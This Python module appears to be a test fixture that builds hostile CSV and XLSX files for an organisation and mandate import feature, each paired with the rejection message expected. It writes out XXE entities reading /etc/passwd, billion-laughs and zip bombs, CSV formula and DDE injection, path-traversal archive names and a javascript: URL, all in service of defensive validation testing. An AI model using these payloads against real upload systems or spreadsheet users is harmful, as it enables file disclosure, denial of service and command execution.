"""Files that nobody should import: each with a name, where it is handed in and a piece of the reason it is given."""

import datetime
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

import openpyxl

MEGABYTE = 1024 * 1024
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XML = '<?xml version="1.0" encoding="UTF-8"?>'

ORGANISATION = {"slug": "", "name": "A name", "kind": "ngo", "country": "NL"}
MANDATE = {"email": "ana@example.org", "organisation": "known", "role": "signatory"}


class Hostile(NamedTuple):
    noun: str
    file: str
    name: str
    make: Callable[[], bytes]
    reason: str


# CSV


def csv_of(*rows, encoding="utf-8"):
    """A file whose rows are dictionaries with the same keys; nothing is quoted or escaped."""
    return "".join(",".join(row) + "\r\n" for row in [rows[0], *(row.values() for row in rows)]).encode(encoding)


def organisation(encoding="utf-8", **cells):
    return lambda: csv_of(ORGANISATION | cells, encoding=encoding)


def mandate(encoding="utf-8", **cells):
    return lambda: csv_of(MANDATE | cells, encoding=encoding)


def text(content):
    return content.encode


# XLSX: the parts are written by hand, as no library writes what is wrong with them


def cell(value, place=""):
    at = f' r="{place}"' if place else ""
    return f'<c{at} t="inlineStr"><is><t>{value}</t></is></c>'


def rows_of(*rows):
    return "".join(f"<row>{''.join(map(cell, row))}</row>" for row in rows)


def sheet(data="", before=""):
    data = data or rows_of(ORGANISATION, ORGANISATION.values())
    return f'{XML}<worksheet xmlns="{MAIN}">{before}<sheetData>{data}</sheetData></worksheet>'


TYPES = f"""{XML}<Types xmlns="{PACKAGE}/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SHEET_TYPE}.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="{SHEET_TYPE}.sharedStrings+xml"/>
<Override PartName="/xl/styles.xml" ContentType="{SHEET_TYPE}.styles+xml"/></Types>"""
ROOT = f"""{XML}<Relationships xmlns="{PACKAGE}/relationships">
<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>"""
WORKBOOK = f"""{XML}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">
<sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets></workbook>"""
RELATIONS = f"""{XML}<Relationships xmlns="{PACKAGE}/relationships">
<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>
<Relationship Id="rId3" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>"""
NAMES = {
    "types": "[Content_Types].xml",
    "root": "_rels/.rels",
    "workbook": "xl/workbook.xml",
    "relations": "xl/_rels/workbook.xml.rels",
    "styles": "xl/styles.xml",
    "strings": "xl/sharedStrings.xml",
    "sheet": "xl/worksheets/sheet1.xml",
    "core": "docProps/core.xml",
}


def parts(**changed):
    """The parts of a workbook with one sound row, by name; `sheet`, `strings`, `styles` and so on replace them."""
    sound = {
        "types": TYPES,
        "root": ROOT,
        "workbook": WORKBOOK,
        "relations": RELATIONS,
        "styles": f'{XML}<styleSheet xmlns="{MAIN}"></styleSheet>',
        "strings": f'{XML}<sst xmlns="{MAIN}"><si><t>Shared</t></si></sst>',
        "sheet": sheet(),
        "core": f'{XML}<coreProperties xmlns="{PACKAGE}/metadata/core-properties"></coreProperties>',
    }
    return {NAMES[key]: content for key, content in (sound | changed).items()}


def packed(contents, compression=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
    return file.getvalue()


def book(more=None, **changed):
    return lambda: packed(parts(**changed) | (more or {}))


def rows_book(data):
    return book(sheet=sheet(data))


def second_cell(xml):
    return rows_book(f"{rows_of(ORGANISATION)}<row><c/>{xml}</row>")


def with_doctype(key, doctype, use=""):
    """One of the parts, with a document type after its declaration and a use of what it defines."""

    def make():
        head, _, tail = parts()[NAMES[key]].removeprefix(XML).partition(">")
        return packed(parts(**{key: f"{XML}{doctype}{head}>{use}{tail}"}))

    return make


EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)


# Bombs: repeated bytes are packed once, so that making one takes no longer than reading it should


def deflated(head, body, times, tail):
    """A deflate stream of head, `times` bodies and tail; each part ends on a byte and refers to nothing before it."""

    def part(content):
        packer = zlib.compressobj(9, wbits=-15)
        return packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)

    return part(head) + part(body) * times + part(tail) + b"\x03\x00"


def checksum(head, body, times, tail):
    found = zlib.crc32(head)
    for _ in range(times):
        found = zlib.crc32(body, found)
    return zlib.crc32(tail, found)


def zipped(entries):
    """A ZIP file of (name, deflate stream, size it claims to have, checksum it claims to have)."""
    file, directory = io.BytesIO(), b""
    for name, stream, size, crc in entries:
        common = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(stream), min(size, 0xFFFFFFFE))
        lengths = struct.pack("<H", len(name))
        offset = file.tell()
        file.write(b"PK\x03\x04" + common + lengths + b"\0\0" + name.encode() + stream)
        directory += b"PK\x01\x02\x14\0" + common + lengths + bytes(12) + struct.pack("<I", offset) + name.encode()
    start = file.tell()
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), start, 0)
    file.write(directory + b"PK\x05\x06" + end)
    return file.getvalue()


def swollen(key, head, body, times, tail, *, claimed=None):
    """A workbook of which one part is `times` bodies long; `claimed` is the size it gives instead of its own."""

    def make():
        own = (head.encode(), body.encode(), times, tail.encode())
        long = len(own[0]) + len(own[1]) * times + len(own[3])
        # The checksum of gigabytes takes too long, and nobody should come so far as to ask for it.
        entries = [(NAMES[key], deflated(*own), claimed or long, 0 if long > 60 * MEGABYTE else checksum(*own))]
        for name, content in parts().items():
            if name != NAMES[key]:
                data = content.encode()
                entries.append((name, deflated(data, b"", 0, b""), len(data), zlib.crc32(data)))
        return zipped(entries)

    return make


SHEET_HEAD, SHEET_TAIL = sheet().split(rows_of(ORGANISATION, ORGANISATION.values()))
SST_HEAD, SST_TAIL = f'{XML}<sst xmlns="{MAIN}">', "</sst>"
STYLES_HEAD = f'{XML}<styleSheet xmlns="{MAIN}"><cellXfs>'
MERGED_HEAD = f'{XML}<worksheet xmlns="{MAIN}"><sheetData/><mergeCells>'
LONG_CELL = f'{SHEET_HEAD}<row><c r="A1" t="inlineStr"><is><t>😀'
ZEROS = "0" * MEGABYTE


def overlapping():
    """Two hundred names for the same 40 megabytes."""
    stream = deflated(b"", b"0" * MEGABYTE, 40, b"")
    whole = zipped([("xl/worksheets/sheet1.xml", stream, 40 * MEGABYTE, 0)])
    start = whole.index(b"PK\x01\x02")
    entry = whole[start : whole.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"sheet1.xml", f"{n:06}.xml".encode()) for n in range(200))
    return whole[:start] + entries + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 200, 200, len(entries), start, 0)


def repeated_string():
    row = "<row>" + '<c t="s"><v>0</v></c>' * 100 + "</row>"
    strings = f"{SST_HEAD}<si><t>{'long' * 4999}</t></si>{SST_TAIL}"
    return packed(parts(strings=strings, sheet=sheet(rows_of(f"c{n}" for n in range(100)) + row * 4000)))


def nested():
    bomb = zipped([("bomb", deflated(b"", b"0" * MEGABYTE, 1000, b""), 1000 * MEGABYTE, 0)])
    return packed(parts() | {"xl/inner.zip": packed({f"{n}.zip": bomb for n in range(10)})})


# Files of other kinds


def docx():
    types = f'{XML}<Types xmlns="{PACKAGE}/content-types"/>'
    return packed({"[Content_Types].xml": types, "word/document.xml": f'{XML}<w:document xmlns:w="urn:w"/>'})


def encrypted():
    """A workbook whose parts say that they are encrypted."""
    content = bytearray(packed(parts()))
    for mark, place in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)]:
        start = content.find(mark)
        while start >= 0:
            content[start + place] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


def twice_the_same_part():
    file = io.BytesIO(packed(parts()))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("xl/Worksheets/Sheet1.xml", sheet())
    return file.getvalue()


def formula_of_openpyxl():
    made = openpyxl.Workbook()
    made.active.append(list(ORGANISATION))
    made.active.append(["", '=HYPERLINK("http://example.org/?"&A1,"click")', "ngo", "NL"])
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def backwards_in_excel():
    made = openpyxl.Workbook()
    made.active.append([*MANDATE, "since", "until"])
    made.active.append([*MANDATE.values(), datetime.date(2024, 2, 1), datetime.date(2024, 1, 31)])
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


SLOW_FORMAT = f"""<styleSheet xmlns="{MAIN}"><numFmts>
<numFmt numFmtId="164" formatCode="{"[" * 60_000}"/></numFmts></styleSheet>"""
FORMATTED = f"<conditionalFormatting sqref='{'A1 ' * 600}'/>" * 4000
TWO_NAMES = [MANDATE | {"name": "Ana"}, MANDATE | {"name": "Eva", "role": "contact"}]
WRONG_KIND = rows_of(ORGANISATION, ["", "A name", "pub", "NL"])
XML_UTF16 = f'<?xml version="1.0" encoding="UTF-16"?>{EXTERNAL}<worksheet>&e;</worksheet>'
MACROS = f"{SHEET_TYPE}.sheet", "application/vnd.ms-excel.sheet.macroEnabled"
ELSEWHERE = f'<Relationship Id="x" Type="{OFFICE}/image" Target="http://127.0.0.1:9/" TargetMode="External"/>'
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
HTML = "<!DOCTYPE html><html><body><table><tr><td>=1+1</td></tr></table></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

UNPACKED = "larger than a table needs to be"
INTRICATE = "more intricate than a table needs to be"
DOCTYPE = "defines entities or a document type"
NOT_XLSX = "not an XLSX workbook that we can read"
NOT_TEXT = "in an encoding that we do not know"
OLD = "an old Excel file (XLS) or one with a password"
FORMULA = "may be a formula"
FORMULA_CELL = "Row 2, column B: a formula."
LINKS = "contains links to other files"
NAMED = "under names that no workbook has"
TOO_LONG = "more than 20000 characters"
TOO_MUCH = "more than 10000000 characters"
TOO_MANY_ROWS = "more than 5000 rows"
TOO_MANY_COLUMNS = "more than 120 columns"
QUOTES = "the quotation marks do not come in pairs"
HEADER = rows_of(ORGANISATION)
WIDE = [f"c{number}" for number in range(16_384)]


def lines(first, repeated):
    return lambda: first + repeated * 1_000_000


# (name, what makes it, reason)

ORGANISATIONS_CSV = [
    # Too much of it
    ("a million rows", lines(b"name,kind,country\n", b"a,b,\n"), TOO_MANY_ROWS),
    ("a million empty rows", lines(b"name,kind,country\n", b",,\n"), TOO_MANY_ROWS),
    ("16,384 columns", text(",".join(WIDE) + "\nx\n"), TOO_MANY_COLUMNS),
    ("four million commas for a header", lines(b"", b",,,,"), TOO_MANY_COLUMNS),
    ("a quotation mark never closed, and 4 MB", lines(b'name,kind,country\n"', b"four"), f"Row 2: {QUOTES}"),
    ("a cell of 20,001 letters", organisation(does_el="α" * 20_001), f"Row 2, column does_el: {TOO_LONG}"),
    # Formulas
    ("a formula with =", organisation(name="=1+1"), f"Row 2, column name: “=1+1” {FORMULA}"),
    ("a formula with +", organisation(slug="+1"), f"Row 2, column slug: “+1” {FORMULA}"),
    ("a formula with @", organisation(name="@SUM(A1)"), f"Row 2, column name: “@SUM(A1)” {FORMULA}"),
    ("a formula behind a tab", organisation(name="\t=1"), f"Row 2, column name: “=1” {FORMULA}"),
    ("a formula behind CR", organisation(name='"\r=1"'), f"Row 2, column name: “=1” {FORMULA}"),
    ("a formula behind a blank", organisation(name=" =1"), f"Row 2, column name: “=1” {FORMULA}"),
    ("a formula of full width", organisation(name="＝1"), f"Row 2, column name: “＝1” {FORMULA}"),
    ("DDE", organisation(evidence="=cmd|' /C calc'!A0"), f"Row 2, column evidence: “=cmd|' /C calc'!A0” {FORMULA}"),
    # Encodings
    ("Latin-1", organisation("latin-1", name="Österreich"), NOT_TEXT),
    ("Greek of Windows", organisation("cp1253", name="Ένωση"), NOT_TEXT),
    ("UTF-16 without its mark", organisation("utf-16-le"), "UTF-16 without its mark"),
    ("UTF-16 cut in a letter", lambda: organisation("utf-16")()[:-1], NOT_TEXT),
    ("UTF-32", organisation("utf-32"), "it holds NUL"),
    ("NUL", organisation(name="A\0name"), "it holds NUL"),
    ("a control character", organisation(name="A\x07name"), "Row 2, column name: a control character"),
    # The shape of the table
    ("a row that is too short", text("name,kind,country\na,ngo\n"), "Row 2 has 2 cells, the header has 3"),
    ("a row that is too long", text("name;kind;country\na;ngo;NL;x\n"), "Row 2 has 4 cells, the header has 3"),
    ("a column twice", text("name,kind,country,NAME\na,ngo,NL,b\n"), "The column “name” stands there twice"),
    ("a column that we do not know", organisation(is_superuser="1"), "There is no column “is_superuser”"),
    ("a column that is missing", text("name,kind\na,ngo\n"), "The column “country” is missing"),
    ("a column without a name", text("name,,country\na,ngo,NL\n"), "Column 2 has no name"),
    ("an empty row in between", text("name,kind,country\na,ngo,NL\n,,\nb,ngo,NL\n"), "Row 3 is empty"),
    ("nothing but a header", text("name,kind,country\n"), "There is no row below the header"),
    ("nothing at all", text(""), "The submitted file is empty"),
    # Wrong rows
    ("the same organisation twice", lambda: csv_of(ORGANISATION, ORGANISATION), "Row 2 is about the same"),
    ("a name that is too long", organisation(name="x" * 201), "at most 200 characters (it has 201)"),
    ("a country by its name", organisation(country="Greece"), "“Greece” is no code of a country"),
    ("a country that is none", organisation(country="QQ"), "“QQ” is no code of a country"),
    ("a kind that is none", organisation(kind="pub"), "“pub” is none of: network"),
    ("a language that is none", organisation(authentic_language="xx"), "“xx” is none of: bg"),
    ("a script for a website", organisation(website="javascript:alert(1)"), "Enter a valid URL"),
    ("a register number that is none", organisation(register_number="1"), "It looks like 12345678901-23"),
    ("a slug that is an address of ours", organisation(slug="join"), "is an address of the portal itself"),
    ("a slug that leads elsewhere", organisation(slug="../../admin"), "Enter a valid “slug”"),
    ("a name that another has", organisation(slug="new", name="Known"), "with this Name already exists"),
    # Other files
    ("a workbook called CSV", lambda: packed(parts()), "This is not a CSV file"),
    ("an old workbook called CSV", lambda: OLE, OLD),
    ("a picture called CSV", lambda: PNG, NOT_TEXT),
    ("HTML called CSV", text(HTML), "There is no row below the header"),
]

ORGANISATIONS_XLSX = [
    # Too much of it
    ("10 MB that unpack to 10 GB", swollen("sheet", "", ZEROS, 10_240, ""), "larger than 5 MB"),
    ("4 MB that unpack to 4 GB", swollen("sheet", "", ZEROS, 4_000, ""), UNPACKED),
    ("4 GB that claim to be 40 MB", swollen("strings", "", ZEROS, 4_000, "", claimed=40 * MEGABYTE), NOT_XLSX),
    ("a bomb in a bomb", nested, "no table needs: “xl/inner.zip”"),
    ("200 names for the same 40 MB", overlapping, UNPACKED),
    ("a thousand parts", book({f"xl/media/{number}.png": "" for number in range(1000)}), UNPACKED),
    (
        "a million rows",
        swollen("sheet", SHEET_HEAD, "<row><c><v>1</v></c></row>" * 1000, 1000, SHEET_TAIL),
        TOO_MANY_ROWS,
    ),
    ("a million empty rows", swollen("sheet", SHEET_HEAD, "<row/>" * 1000, 1100, SHEET_TAIL), INTRICATE),
    ("51,000 empty rows", swollen("sheet", SHEET_HEAD, "<row/>" * 1000, 51, SHEET_TAIL), INTRICATE),
    ("a cell in the last row", rows_book(f'{HEADER}<row r="1048576">{cell("x", "A1048576")}</row>'), TOO_MANY_ROWS),
    ("16,384 columns", rows_book(rows_of(WIDE)), TOO_MANY_COLUMNS),
    ("a cell in the last column", rows_book(f"{HEADER}<row>{cell('x', 'XFD2')}</row>"), TOO_MANY_COLUMNS),
    ("a million times A1", swollen("sheet", f"{SHEET_HEAD}<row>", "<c r='A1'/>" * 1000, 1000, SHEET_TAIL), INTRICATE),
    ("a million shared strings", swollen("strings", SST_HEAD, "<si><t>x</t></si>" * 1000, 1000, SST_TAIL), INTRICATE),
    ("a shared string of 49 MB", swollen("strings", f"{SST_HEAD}<si><t>", ZEROS, 49, SST_TAIL), TOO_LONG),
    ("49 MB in a cell, of letters that take four bytes", swollen("sheet", LONG_CELL, ZEROS, 49, SHEET_TAIL), TOO_LONG),
    ("one long string in half a million cells", repeated_string, TOO_MUCH),
    ("an attribute of 49 MB", swollen("sheet", f"{XML}<worksheet xmlns='{MAIN}' x='", ZEROS, 49, "'/>"), INTRICATE),
    ("ten million elements in one another", swollen("sheet", SHEET_HEAD, "<a>" * 10_000, 1000, ""), INTRICATE),
    ("a million styles", swollen("styles", STYLES_HEAD, "<xf/>" * 1000, 1000, "</cellXfs></styleSheet>"), INTRICATE),
    ("a number format that costs minutes", book(styles=SLOW_FORMAT), INTRICATE),
    ("millions of cells named before the rows", book(sheet=sheet(before=FORMATTED)), NOT_XLSX),
    (
        "half a million merged cells",
        swollen("sheet", MERGED_HEAD, "<mergeCell ref='A1:B2'/>" * 1000, 500, ""),
        INTRICATE,
    ),
    # Document types and entities
    *((f"an external entity in the part: {key}", with_doctype(key, EXTERNAL, "&e;"), DOCTYPE) for key in NAMES),
    ("a billion laughs in the sheet", with_doctype("sheet", LAUGHS, "&a9;"), DOCTYPE),
    ("a billion laughs in the strings", with_doctype("strings", LAUGHS, "&a9;"), DOCTYPE),
    ("a document type from elsewhere", with_doctype("workbook", REMOTE), DOCTYPE),
    ("a parameter entity", with_doctype("styles", PARAMETER), DOCTYPE),
    ("an entity in UTF-16", book(sheet=XML_UTF16.encode("utf-16")), DOCTYPE),
    # Formulas
    ("a hyperlink", formula_of_openpyxl, FORMULA_CELL),
    ("a formula with the value it had", second_cell("<c r='B2' t='str'><f>1+1</f><v>A name</v></c>"), FORMULA_CELL),
    ("a shared formula", second_cell("<c r='B2'><f t='shared' si='0' ref='B2:B9'>A1</f></c>"), FORMULA_CELL),
    ("a matrix formula", second_cell("<c r='B2'><f t='array' ref='B2:B9'>A1:A8</f></c>"), FORMULA_CELL),
    *(
        (
            f"text that begins with {sign}",
            second_cell(cell(f"{sign}1", "B2")),
            f"Row 2, column name: “{sign}1” {FORMULA}",
        )
        for sign in "=+-@"
    ),
    ("an error for a value", second_cell("<c r='B2' t='e'><v>#REF!</v></c>"), "“#REF!” may be a formula or an error"),
    # Other files
    ("a workbook cut in half", lambda: packed(parts())[:-400], NOT_XLSX),
    ("a letter of Word", docx, NOT_XLSX),
    ("CSV called a workbook", organisation(), NOT_XLSX),
    ("HTML called a workbook", text(HTML), NOT_XLSX),
    ("an old or a locked workbook", lambda: OLE, OLD),
    ("an encrypted workbook", encrypted, "This file is encrypted"),
    ("a workbook packed with LZMA", lambda: packed(parts(), zipfile.ZIP_LZMA), NOT_XLSX),
    ("macros", book({"xl/vbaProject.bin": "x"}), "This workbook contains macros"),
    ("macros by the type of the workbook", book(types=TYPES.replace(*MACROS)), "This workbook contains macros"),
    ("an embedded object", book({"xl/embeddings/oleObject1.bin": "x"}), "This workbook contains other files"),
    ("a link to another workbook, or DDE", book({"xl/externalLinks/externalLink1.xml": "<x/>"}), LINKS),
    ("a picture from elsewhere", book(root=ROOT.replace("</R", f"{ELSEWHERE}</R")), LINKS),
    ("a part that climbs up", book({"../../etc/cron.d/x.xml": "<x/>"}), NAMED),
    ("a part at the root of the disk", book({"/etc/x.xml": "<x/>"}), NAMED),
    ("the same part twice", twice_the_same_part, NAMED),
    ("a program in the workbook", book({"xl/run.exe": "MZ"}), "no table needs: “xl/run.exe”"),
    ("rows out of order", rows_book('<row r="2"/><row r="1"/>'), NOT_XLSX),
    ("a row of a negative number", rows_book('<row r="-5"><c><v>1</v></c></row>'), NOT_XLSX),
    ("a sheet of a negative size", book(sheet=sheet(before='<dimension ref="A1:B-5"/>')), NOT_XLSX),
    ("a sheet that lies about its size", book(sheet=sheet(WRONG_KIND, '<dimension ref="A1:XFD1048576"/>')), "“pub” is"),
    ("a sheet that claims to be smaller", book(sheet=sheet(WRONG_KIND, '<dimension ref="A1:A1"/>')), "“pub” is"),
    ("no sheet", book(workbook=f"<workbook xmlns='{MAIN}'><sheets/></workbook>"), NOT_XLSX),
    ("a shared string that is not there", rows_book("<row><c t='s'><v>9</v></c></row>"), NOT_XLSX),
    ("a sheet that is no XML", book(sheet="name,kind,country"), NOT_XLSX),
]

PEOPLE_CSV = [
    (
        "a quotation mark never closed, and lines",
        lines(b'email,organisation,role\na,b,c\n"', b"x,y\n"),
        f"Row 3: {QUOTES}",
    ),
    ("a formula with -", mandate(name="-2+3"), f"Row 2, column name: “-2+3” {FORMULA}"),
    ("a hyperlink", mandate(name='"=HYPERLINK(""http://x.org"")"'), f'column name: “=HYPERLINK("http://x” {FORMULA}'),
    ("Bulgarian of Windows", mandate("cp1251", name="Иван"), NOT_TEXT),
    ("a column that only accounts have", mandate(staff_role="secretariat"), "There is no column “staff_role”"),
    ("nothing but blanks", text("   \n  \n"), "The first row must name the columns"),
    ("PDF called CSV", lambda: PDF, NOT_TEXT),
    ("the same role twice", lambda: csv_of(MANDATE, MANDATE), "Row 2 is about the same"),
    ("a role that is none", mandate(role="admin"), "“admin” is none of: contact"),
    ("an address that is none", mandate(email="ana"), "Enter a valid email address"),
    ("no address", mandate(email=""), "This field cannot be blank"),
    ("an organisation that does not exist", mandate(organisation="nobody"), "There is no organisation “nobody”"),
    ("a time zone that is none", mandate(time_zone="../../etc/passwd"), "not the name of a time zone"),
    ("the month first", mandate(since="12/31/2024"), "“12/31/2024” is not a date"),
    ("a day that is not in the calendar", mandate(since="30.02.2024"), "“30.02.2024” is not a date"),
    ("a year for a day", mandate(since="2024"), "“2024” is not a date"),
    ("an end before the beginning", mandate(since="2024-02-01", until="2024-01-31"), "It ends before it begins"),
    ("two names for one person", lambda: csv_of(*TWO_NAMES), "Row 2 says “Ana” of the same person"),
    ("another name for a superuser", mandate(email="root@example.org", name="Mallory"), "Only a superuser may change"),
]

PEOPLE_XLSX = [
    ("4 GB that claim to be 1 KB", swollen("sheet", SHEET_HEAD, ZEROS, 4_000, "", claimed=1024), NOT_XLSX),
    ("an end before the beginning, in cells of Excel", backwards_in_excel, "It ends before it begins"),
]

FILES = [
    *(Hostile("organisation", "table.csv", *row) for row in ORGANISATIONS_CSV),
    *(Hostile("organisation", "table.xlsx", *row) for row in ORGANISATIONS_XLSX),
    *(Hostile("mandate", "table.csv", *row) for row in PEOPLE_CSV),
    *(Hostile("mandate", "table.xlsx", *row) for row in PEOPLE_XLSX),
    Hostile("organisation", "table.png", "a picture", lambda: PNG, "Only files called .csv or .xlsx are read"),
]
